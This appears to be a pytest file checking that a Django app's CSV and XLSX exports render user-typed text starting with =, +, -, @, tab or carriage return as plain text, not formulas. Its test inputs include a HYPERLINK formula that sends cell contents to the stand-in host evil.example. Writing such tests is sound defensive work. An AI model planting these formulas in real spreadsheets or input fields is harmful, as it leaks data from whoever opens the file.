"""Text people type reaches the CSV and XLSX as text, never as a live formula."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from audits.models import Action, Audit
from partnership.models import Role
from partnership.spreadsheets import safe_cell
from tests.factories.audits import accepted_audit

DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
]


def give_every_exported_text(area, text):
    """Every field a person types that an export writes: names, titles and actions."""
    area.organisation.name = f"{text} org"
    area.organisation.save()
    area.service.name = f"{text} service"
    area.service.save()
    area.project.title = text
    area.project.save()
    audit = accepted_audit(area)
    Action.objects.filter(audit=audit).update(what=text, who=f"{text} who")
    return audit


def read_csv(response):
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def read_xlsx(response):
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


@pytest.mark.parametrize("text", DANGEROUS)
def test_exports_write_dangerous_text_as_text(client_for, area, text):
    audit = give_every_exported_text(area, text)
    assert Audit.objects.get(pk=audit.pk).status == Audit.Status.ACCEPTED
    client = client_for(area, Role.COMMISSIONER)
    slug = area.partnership.slug

    rows = read_csv(client.get(reverse("reporting:export_csv", args=[slug])))
    cells = [cell for row in rows for cell in row]
    assert f"'{text}" in cells  # the project title, shown as typed
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)

    workbook = read_xlsx(client.get(reverse("reporting:export_xlsx", args=[slug])))
    seen = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    seen.append((sheet.title, cell.value))
    # XML stores a carriage return as a line feed; either way the cell is text.
    typed = f"'{text}".replace("\r", "\n")
    for place in [
        ("Audits", typed),
        ("Audits", f"{typed} service"),
        ("Audits", f"{typed} org"),
        ("Actions", typed),
        ("Actions", f"{typed} who"),
    ]:
        assert place in seen


def test_ordinary_values_are_untouched():
    assert safe_cell("Short Breaks") == "Short Breaks"
    assert safe_cell("Co-production") == "Co-production"
    assert safe_cell(-3) == -3
    assert safe_cell(None) is None
